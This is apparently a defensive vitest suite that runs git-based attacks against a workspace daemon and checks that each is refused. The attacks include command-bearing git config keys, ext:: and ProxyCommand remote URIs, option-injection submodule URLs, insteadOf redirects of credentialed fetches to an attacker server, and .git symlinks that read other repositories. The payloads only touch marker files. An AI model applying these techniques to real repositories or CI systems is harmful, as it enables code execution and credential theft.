/**
 * Attacks on the daemon through git (issue 8 items 1, 2, 7; invariant 8), against a real daemon with real git
 * and a real smart-HTTP server, with the production policy (no local remotes). Every payload is a script that
 * would leave a marker in a world-writable directory outside the content (reachable by the workspace's host
 * user too): an attack succeeded if a marker exists. Control runs prove the planted payloads are live: plain git
 * on the same content does run them.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmod, cp, lstat, mkdir, readFile, readdir, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { contentservice } from '@workbay/api';
import type { TestDaemon } from '../test-support/daemon-harness.js';
import { startTestDaemon } from '../test-support/daemon-harness.js';
import type { GitHttpServer, TestRepo } from '../test-support/git-server.js';
import { createRepo, git, scratch, startGitHttpServer } from '../test-support/git-server.js';
import { isWorkbayError } from '../errors.js';
import { errorOf } from '../test-support/outcomes.js';

/** Outcomes that mean "refused, nothing happened" for content-planted attacks. */
const refusals = ['invalid-argument', 'failed-precondition', 'permission-denied'];

describe('git attacks (real daemon, real git, production git policy)', () => {
  let root: Awaited<ReturnType<typeof scratch>>;
  let markers: string;
  let bin: string;
  let repo: TestRepo;
  let server: GitHttpServer;
  let privateServer: GitHttpServer;
  let t: TestDaemon;
  let n = 0;
  const nextId = (): string => `atk${++n}`;

  /** A script that leaves marker `name` (in $ATTACK_MARKERS when set: control runs). */
  const payload = async (name: string): Promise<string> => {
    const path = join(bin, `${name}.sh`);
    await writeFile(path, `#!/bin/sh\ntouch "\${ATTACK_MARKERS:-${markers}}/${name}"\n`);
    await chmod(path, 0o755);
    return path;
  };
  const markersLeft = async (): Promise<string[]> => readdir(markers);

  beforeAll(async () => {
    root = await scratch('workbay-git-attacks-');
    markers = join(root.path, 'markers');
    bin = join(root.path, 'bin');
    await mkdir(markers, { recursive: true });
    await chmod(markers, 0o1777);
    await mkdir(bin);
    repo = await createRepo(root.path, 'repo', {
      '.gitattributes': '*.txt filter=evil diff=evil merge=evil\n',
      'notes.txt': 'notes\n',
    });
    server = await startGitHttpServer(root.path);
    privateServer = await startGitHttpServer(root.path, { username: 'alice', password: 'never-sent' });
    // Production policy: only https, http, ssh and git remotes.
    t = await startTestDaemon({ config: { git: { allowLocalRemotes: false } } });
  });
  afterAll(async () => {
    await t?.cleanup();
    await server?.close();
    await privateServer?.close();
    await root?.cleanup();
  });
  afterEach(async () => {
    expect(await markersLeft()).toEqual([]);
  });

  const httpUrl = (): string => `${server.url}/repo.git`;
  const init = (initializer: contentservice.WorkspaceInitializer, id = nextId()) =>
    t.client.initWorkspace({ id, metadata: { owner: 'tester', metaId: `meta-${id}` }, initializer });
  const gitInit = (value: Partial<contentservice.GitInitializer>): contentservice.WorkspaceInitializer => ({
    spec: { $case: 'git', value: { remoteUri: httpUrl(), ...value } as contentservice.GitInitializer },
  });
  const exists = async (id: string): Promise<boolean> => (await t.client.isWorkspaceExists({ id })).exists;

  describe('custom_config in InitWorkspace', () => {
    const keys: [string, () => Promise<string>][] = [
      ['core.sshCommand', () => payload('sshcommand')],
      ['core.fsmonitor', () => payload('fsmonitor')],
      ['core.hooksPath', async () => bin],
      ['core.gitProxy', () => payload('gitproxy')],
      ['core.askPass', () => payload('askpass')],
      ['core.pager', () => payload('pager')],
      ['core.editor', () => payload('editor')],
      ['core.alternateRefsCommand', () => payload('altrefs')],
      ['credential.helper', async () => `!${await payload('credential')}`],
      ['filter.evil.clean', () => payload('clean')],
      ['filter.evil.smudge', () => payload('smudge')],
      ['filter.evil.process', () => payload('process')],
      ['diff.evil.textconv', () => payload('textconv')],
      ['diff.external', () => payload('external')],
      ['merge.evil.driver', () => payload('merge')],
      ['uploadpack.packObjectsHook', () => payload('packobjects')],
      ['include.path', async () => join(bin, 'evil.inc')],
      ['includeIf.gitdir:/.path', async () => join(bin, 'evil.inc')],
      ['protocol.ext.allow', async () => 'always'],
      ['protocol.file.allow', async () => 'always'],
      ['url.ext::sh.insteadOf', async () => httpUrl()],
      ['http.proxy', async () => 'http://127.0.0.1:9'],
      ['remote.origin.uploadpack', () => payload('uploadpack')],
      ['core.worktree', async () => '/tmp'],
      ['init.templateDir', async () => bin],
      ['gpg.program', () => payload('gpg')],
    ];
    it.each(keys)('%s: INVALID_ARGUMENT naming the key, nothing registered, nothing run', async (key, value) => {
      const id = nextId();
      const error = await errorOf(init(gitInit({ config: { customConfig: { [key]: await value() } } as never }), id));
      expect(isWorkbayError(error, 'invalid-argument')).toBe(true);
      expect(error.message).toContain('custom_config');
      expect(error.message).toContain(`'${key}'`);
      expect(await exists(id)).toBe(false);
    });

    it('allowed keys land in the clone', async () => {
      const { contentLocation } = await init(
        gitInit({ config: { customConfig: { 'core.autocrlf': 'input', 'user.name': 'W' } } as never }),
      );
      expect(git(contentLocation, 'config', 'core.autocrlf')).toBe('input');
    });
  });

  describe('remote_uri', () => {
    it.each([
      ['/etc', 'local'],
      ['file:///root/x', 'local'],
      [`ext::sh -c touch% ${'MARKERS'}/ext`, 'ext'],
      [`ext::${'BIN'}/ext.sh`, 'ext'],
      ['fd::3', 'fd'],
      ['ssh://-oProxyCommand=touch%20x/y', 'ssh option'],
    ])('%s is refused (%s) before anything is registered', async (template, _kind) => {
      await payload('ext');
      const remoteUri = template.replace('MARKERS', markers).replace('BIN', bin);
      const id = nextId();
      const error = await errorOf(init(gitInit({ remoteUri }), id));
      expect(isWorkbayError(error, 'invalid-argument')).toBe(true);
      expect(error.message).toContain('remote_uri');
      expect(await exists(id)).toBe(false);
      const upstream = await errorOf(init(gitInit({ upstreamRemoteUri: remoteUri })));
      expect(isWorkbayError(upstream, 'invalid-argument')).toBe(true);
    });
  });

  /** Plants every local command-bearing config key (and hooks) in a working copy of the content. */
  const plantLocal = async (workTree: string, origin?: string): Promise<void> => {
    const hooks = join(bin, 'hooks');
    await mkdir(hooks, { recursive: true });
    for (const hook of ['post-checkout', 'reference-transaction', 'post-index-change', 'pre-auto-gc', 'post-merge']) {
      const script = await payload(`hook-${hook}`);
      await cp(script, join(hooks, hook));
      await cp(script, join(workTree, '.git', 'hooks', hook));
    }
    // An included file inside the content, as a workspace would write it.
    await writeFile(join(workTree, 'evil.inc'), `[core]\n\tfsmonitor = ${await payload('include-fsmonitor')}\n`);
    const config = [
      `[core]\n\tfsmonitor = ${await payload('fsmonitor')}\n\thooksPath = ${hooks}\n`,
      `\talternateRefsCommand = ${await payload('altrefs')}\n`,
      `[include]\n\tpath = ../evil.inc\n`,
      `[filter "evil"]\n\tclean = ${await payload('clean')}\n\tsmudge = ${await payload('smudge')}\n`,
      `\tprocess = ${await payload('process')}\n\trequired = true\n`,
      `[diff "evil"]\n\ttextconv = ${await payload('textconv')}\n[diff]\n\texternal = ${await payload('external')}\n`,
      `[merge "evil"]\n\tdriver = ${await payload('merge')}\n`,
      `[log]\n\tshowSignature = true\n[gpg]\n\tprogram = ${await payload('gpg')}\n`,
      `[gc]\n\tauto = 1\n`,
      ...(origin ? [`[remote "origin"]\n\turl = ${origin}\n`] : []),
    ].join('');
    execFileSync('sh', ['-c', `cat >> "$0"`, join(workTree, '.git', 'config')], { input: config });
    // Same size, new mtime: git must read the file again (through the clean filter) to know it is unchanged.
    await utimes(join(workTree, 'notes.txt'), new Date(2001, 1, 1), new Date(2001, 1, 1));
    await writeFile(join(workTree, 'README.md'), '# changed by the workspace\n');
  };

  it('control: plain git on planted content runs the payloads (so the attacks below are live)', async () => {
    const { contentLocation } = await init(gitInit({}));
    const copy = join(root.path, 'control');
    await cp(contentLocation, copy, { recursive: true });
    await plantLocal(copy);
    const control = join(root.path, 'control-markers');
    await mkdir(control);
    const env = { ...process.env, ATTACK_MARKERS: control, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
    // Exit codes do not matter here (a failing filter makes git fail); what ran does.
    const options = { cwd: copy, env, stdio: 'ignore', timeout: 30_000 } as const;
    spawnSync('git', ['-c', 'safe.directory=*', 'status', '--porcelain'], options);
    // The failing filter process would stop the checkout before its hook: only the hooks are looked at here.
    const noFilter = ['-c', 'filter.evil.process=', '-c', 'filter.evil.required=false'];
    spawnSync('git', ['-c', 'safe.directory=*', ...noFilter, 'checkout', '-q', '-b', 'x'], options);
    const ran = await readdir(control);
    // core.fsmonitor is set twice: the included value comes last and wins.
    expect(ran).toEqual(expect.arrayContaining(['include-fsmonitor', 'process', 'hook-post-checkout']));
  });

  it('DisposeWorkspace runs git status on planted content: OK, status reported, nothing of it runs', async () => {
    const id = nextId();
    const { contentLocation } = await init(gitInit({}), id);
    await plantLocal(contentLocation);
    const result = await t.client.disposeWorkspace({ id, backup: false, backupLogs: false });
    expect(result.gitStatus?.branch).toBe('main');
    expect(result.gitStatus?.uncommitedFiles).toContain('README.md');
  });

  it('prebuild path (snapshot, stash, fetch, checkout, stash pop) on planted content: nothing of it runs', async () => {
    const sourceId = nextId();
    const { contentLocation } = await init(gitInit({ fullClone: true }), sourceId);
    await plantLocal(contentLocation, httpUrl());
    const { url } = await t.client.takeSnapshot({ id: sourceId });
    await t.client.disposeWorkspace({ id: sourceId, backup: false, backupLogs: false });
    const result = await init({
      spec: {
        $case: 'prebuild',
        value: {
          prebuild: { snapshot: url, fromVolumeSnapshot: false },
          git: [{ remoteUri: httpUrl(), targetMode: 2, cloneTaget: 'feature' } as contentservice.GitInitializer],
        },
      },
    });
    // Every planted key here can be neutralised: the prebuild works, with the workspace's changes kept.
    expect(git(result.contentLocation, 'rev-parse', '--abbrev-ref', 'HEAD')).toBe('feature');
    expect(await readFile(join(result.contentLocation, 'README.md'), 'utf8')).toBe('# changed by the workspace\n');
  });

  /**
   * Planted config that would run a program when git talks to a remote during the prebuild's fetch. The fetch
   * goes to the spec's (validated) URL, never to the content's `origin`; with `spec` the spec's URL itself uses
   * the transport the planted key hooks into (it is unreachable, so the call fails, but nothing runs).
   */
  const remoteAttacks: [string, () => Promise<string>, string?][] = [
    [
      'core.sshCommand',
      async () => `[core]\n\tsshCommand = ${await payload('sshcommand')}\n${origin('ssh://git@127.0.0.1:1/x')}`,
    ],
    [
      'core.sshCommand',
      async () => `[core]\n\tsshCommand = ${await payload('sshcommand')}\n`,
      'ssh://git@127.0.0.1:1/x',
    ],
    [
      'core.gitProxy',
      async () => `[core]\n\tgitProxy = ${await payload('gitproxy')}\n${origin('git://127.0.0.1:1/x')}`,
    ],
    ['core.gitProxy', async () => `[core]\n\tgitProxy = ${await payload('gitproxy')}\n`, 'git://127.0.0.1:1/x'],
    [
      'credential.helper',
      async () =>
        `[credential]\n\thelper = !${await payload('credential')}\n[core]\n\taskPass = ${await payload('askpass')}\n` +
        origin(`${privateServer.url}/repo.git`),
    ],
    [
      'credential.helper',
      async () =>
        `[credential]\n\thelper = !${await payload('credential')}\n[core]\n\taskPass = ${await payload('askpass')}\n`,
      'PRIVATE',
    ],
    ['protocol.ext.allow', async () => `[protocol "ext"]\n\tallow = always\n${origin(`ext::${await payload('ext')}`)}`],
    [
      'url.<ext>.insteadOf',
      async () => `[protocol]\n\tallow = always\n[url "ext::${await payload('ext')} "]\n\tinsteadOf = http://\n`,
    ],
    [
      'remote.origin.uploadpack',
      async () =>
        `[protocol "file"]\n\tallow = always\n[uploadpack]\n\tpackObjectsHook = ${await payload('packobjects')}\n` +
        `[remote "origin"]\n\turl = file://${repo.bare}\n\tuploadpack = ${await payload('uploadpack')}\n`,
    ],
    ['remote.origin.vcs', async () => `[remote "origin"]\n\turl = x\n\tvcs = ext\n`],
  ];
  function origin(url: string): string {
    return `[remote "origin"]\n\turl = ${url}\n`;
  }

  it.each(remoteAttacks)('prebuild fetch with a planted %s: nothing runs', async (_key, plant, specUrl) => {
    const sourceId = nextId();
    const { contentLocation } = await init(gitInit({ fullClone: true }), sourceId);
    execFileSync('git', ['-c', 'safe.directory=*', 'remote', 'remove', 'origin'], { cwd: contentLocation });
    execFileSync('sh', ['-c', `cat >> "$0"`, join(contentLocation, '.git', 'config')], { input: await plant() });
    const { url } = await t.client.takeSnapshot({ id: sourceId });
    await t.client.disposeWorkspace({ id: sourceId, backup: false, backupLogs: false });
    const remoteUri = specUrl === 'PRIVATE' ? `${privateServer.url}/repo.git` : (specUrl ?? httpUrl());
    const result = await init({
      spec: {
        $case: 'prebuild',
        value: {
          prebuild: { snapshot: url, fromVolumeSnapshot: false },
          git: [{ remoteUri, targetMode: 2, cloneTaget: 'feature' } as contentservice.GitInitializer],
        },
      },
    }).catch((error: unknown) => error);
    if (specUrl === undefined && result instanceof Error) {
      // The spec's remote is fine: only a refusal of the content may fail the call.
      expect(
        refusals.some((code) => isWorkbayError(result, code as never)),
        result.message,
      ).toBe(true);
    }
    if (specUrl !== undefined) expect(result).toBeInstanceOf(Error);
  });

  /**
   * Red team finding 3: content planted by a prebuild redirects the next workspace's credentialed fetch. The
   * spec's remote is the credentialed one; an "attacker" host asks for credentials (401) to whatever reaches it.
   * A URL rewrite is refused (the workspace fails, FAILED_PRECONDITION naming the key); proxies and extra headers
   * are neutralised (the prebuild works against the real remote). The attacker never gets a request.
   */
  describe('prebuild content that redirects the credentialed fetch (red team finding 3)', () => {
    let attacker: Server;
    let attackerUrl: string;
    const received: string[] = [];
    beforeAll(async () => {
      attacker = createServer((req, res) => {
        received.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers.authorization ?? '-'}`);
        res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
      });
      await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', () => resolve()));
      attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    });
    afterAll(async () => {
      attacker?.closeAllConnections();
      await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
    });

    const plants: [string, () => string, 'refused' | 'works'][] = [
      ['url.<attacker>.insteadOf', () => `[url "${attackerUrl}/"]\n\tinsteadOf = ${privateServer.url}/\n`, 'refused'],
      ['url.<attacker>.insteadOf = http://', () => `[url "${attackerUrl}/"]\n\tinsteadOf = http://\n`, 'refused'],
      ['http.proxy', () => `[http]\n\tproxy = ${attackerUrl}\n`, 'works'],
      ['http.<url>.proxy', () => `[http "${privateServer.url}/"]\n\tproxy = ${attackerUrl}\n`, 'works'],
      ['http.extraHeader', () => `[http]\n\textraHeader = Authorization: Basic ZXZpbDpldmls\n`, 'works'],
    ];
    it.each(plants)('planted %s: the user credentials never leave for the attacker', async (_key, plant, outcome) => {
      received.length = 0;
      const sourceId = nextId();
      const { contentLocation } = await init(gitInit({ fullClone: true }), sourceId);
      execFileSync('sh', ['-c', `cat >> "$0"`, join(contentLocation, '.git', 'config')], { input: plant() });
      const { url } = await t.client.takeSnapshot({ id: sourceId });
      await t.client.disposeWorkspace({ id: sourceId, backup: false, backupLogs: false });
      const seenBefore = privateServer.seenAuthorization.length;
      const result = await init({
        spec: {
          $case: 'prebuild',
          value: {
            prebuild: { snapshot: url, fromVolumeSnapshot: false },
            git: [
              {
                remoteUri: `${privateServer.url}/repo.git`,
                targetMode: 2,
                cloneTaget: 'feature',
                config: {
                  customConfig: {},
                  authentication: 1,
                  authUser: 'alice',
                  authPassword: 'never-sent',
                  authOts: '',
                },
              } as contentservice.GitInitializer,
            ],
          },
        },
      }).catch((error: unknown) => error);
      expect(received).toEqual([]);
      const seen = privateServer.seenAuthorization.slice(seenBefore);
      expect(seen.every((h) => h === `Basic ${Buffer.from('alice:never-sent').toString('base64')}`)).toBe(true);
      if (outcome === 'refused') {
        expect(result).toBeInstanceOf(Error);
        expect(isWorkbayError(result, 'failed-precondition'), String(result)).toBe(true);
        expect((result as Error).message).toMatch(/insteadof/i);
      } else {
        expect(result, String(result)).not.toBeInstanceOf(Error);
        expect(seen.length).toBeGreaterThan(0);
        const { contentLocation: started } = result as { contentLocation: string };
        expect(git(started, 'rev-parse', '--abbrev-ref', 'HEAD')).toBe('feature');
      }
    });
  });

  it('a cloned repository whose submodules point at ext::, a local path and an option-looking URL: nothing runs', async () => {
    // Built by hand: a gitlink entry per submodule and a .gitmodules of the attacker's choosing.
    const work = join(root.path, 'evil-submodules-work');
    await mkdir(work);
    git(work, 'init', '-q', '-b', 'main');
    await writeFile(
      join(work, '.gitmodules'),
      [
        `[submodule "a"]\n\tpath = a\n\turl = ext::${await payload('submodule-ext')}\n`,
        `[submodule "b"]\n\tpath = b\n\turl = ${repo.bare}\n\tupdate = !${await payload('submodule-update')}\n`,
        `[submodule "c"]\n\tpath = c\n\turl = --upload-pack=${await payload('submodule-option')}\n`,
      ].join(''),
    );
    for (const path of ['a', 'b', 'c'])
      git(work, 'update-index', '--add', '--cacheinfo', `160000,${repo.commits['main']},${path}`);
    git(work, 'add', '.gitmodules');
    git(work, 'commit', '-q', '-m', 'submodules');
    git(root.path, 'clone', '-q', '--bare', work, join(root.path, 'evil-submodules.git'));
    const { contentLocation } = await init(gitInit({ remoteUri: `${server.url}/evil-submodules.git` }));
    expect(await readFile(join(contentLocation, '.gitmodules'), 'utf8')).toContain('ext::');
  });

  describe('.git that leads out of the content', () => {
    let host: string;
    beforeAll(async () => {
      // A repository of the node (another workspace's, the operator's) with a payload and a secret branch name.
      host = join(root.path, 'host-repo');
      await mkdir(host);
      git(host, 'init', '-q', '-b', 'host-secret-branch');
      await writeFile(join(host, 'secret.txt'), 'secret\n');
      git(host, 'add', '.');
      git(host, 'commit', '-q', '-m', 'host secret subject');
      git(host, 'config', 'core.fsmonitor', await payload('host-fsmonitor'));
    });

    const disposeWith = async (plant: (content: string) => Promise<void>): Promise<void> => {
      const id = nextId();
      const { contentLocation } = await init(gitInit({ checkoutLocation: 'project' }), id);
      const before = (await lstat(join(host, '.git', 'index'))).mtimeMs;
      await plant(contentLocation);
      const result = await t.client.disposeWorkspace({ id, backup: false, backupLogs: false });
      expect(JSON.stringify(result)).not.toMatch(/host-secret|secret\.txt/);
      expect((await lstat(join(host, '.git', 'index'))).mtimeMs).toBe(before);
    };

    it('.git as a symlink to a host repository', async () => {
      await disposeWith(async (content) => {
        await rm(join(content, 'project', '.git'), { recursive: true });
        await symlink(join(host, '.git'), join(content, 'project', '.git'));
      });
    });

    it('.git as a gitdir file pointing at a host repository', async () => {
      await disposeWith(async (content) => {
        await rm(join(content, 'project', '.git'), { recursive: true });
        await writeFile(join(content, 'project', '.git'), `gitdir: ${join(host, '.git')}\n`);
      });
    });

    it('the checkout directory replaced by a symlink to a host repository', async () => {
      await disposeWith(async (content) => {
        await rm(join(content, 'project'), { recursive: true });
        await symlink(host, join(content, 'project'));
      });
    });

    it('.git/commondir pointing at a host repository', async () => {
      await disposeWith(async (content) => {
        await writeFile(join(content, 'project', '.git', 'commondir'), `${join(host, '.git')}\n`);
      });
    });

    it(".git/objects/info/alternates borrowing a host repository's objects", async () => {
      await disposeWith(async (content) => {
        await writeFile(
          join(content, 'project', '.git', 'objects', 'info', 'alternates'),
          `${join(host, '.git')}/objects\n`,
        );
      });
    });

    it('object directories and refs symlinked into a repository outside the working area that the uid can read (red team round 8)', async () => {
      // A checkout elsewhere on the node (another daemon's content, a CI checkout in /tmp) readable by every uid.
      for (let dir = host; dir !== dirname(root.path); dir = dirname(dir)) await chmod(dir, 0o755);
      execFileSync('chmod', ['-R', 'a+rX', host]);
      const hostHead = git(host, 'rev-parse', 'HEAD');
      await disposeWith(async (content) => {
        const own = join(content, 'project', '.git');
        // `.git/objects` stays a real directory (the alternates and commondir checks pass); its prefix directories
        // lead out.
        for (const prefix of await readdir(join(host, '.git', 'objects'))) {
          if (!/^[0-9a-f]{2}$/.test(prefix)) continue;
          await rm(join(own, 'objects', prefix), { recursive: true, force: true });
          await symlink(join(host, '.git', 'objects', prefix), join(own, 'objects', prefix));
        }
        await rm(join(own, 'refs', 'heads'), { recursive: true });
        await symlink(join(host, '.git', 'refs', 'heads'), join(own, 'refs', 'heads'));
        await writeFile(join(own, 'HEAD'), 'ref: refs/heads/host-secret-branch\n');
        // Live: git as root reads the host's commit through the links.
        expect(git(join(content, 'project'), 'log', '-1', '--format=%H %s')).toBe(`${hostHead} host secret subject`);
      });
    });

    it("refs and objects symlinked into another workspace's repository: git sees nothing of it (red team round 7)", async () => {
      // A deployment whose working area other uids can traverse (the embedded default sits below root's 0700 home).
      await chmod(dirname(t.workingArea), 0o755);
      const victim = await init(gitInit({ checkoutLocation: 'project' }));
      const victimRepo = join(victim.contentLocation, 'project');
      await writeFile(join(victimRepo, 'SECRET_PLANS.txt'), 'victim secret\n');
      git(victimRepo, 'add', '.');
      git(victimRepo, 'commit', '-q', '-m', 'victim private subject');
      const victimHead = git(victimRepo, 'rev-parse', 'HEAD');
      const id = nextId();
      const { contentLocation } = await init(gitInit({ checkoutLocation: 'project' }), id);
      const own = join(contentLocation, 'project', '.git');
      for (const name of ['objects', join('refs', 'heads')]) {
        await rm(join(own, name), { recursive: true });
        await symlink(join(victimRepo, '.git', name), join(own, name));
      }
      // Live: git as root, which sees everything, reads the victim's commit through the planted links.
      expect(git(join(contentLocation, 'project'), 'log', '-1', '--format=%s')).toBe('victim private subject');
      const result = await t.client.disposeWorkspace({ id, backup: false, backupLogs: false });
      expect(JSON.stringify(result)).not.toMatch(new RegExp(`victim|SECRET_PLANS|${victimHead}`));
    });
  });
});
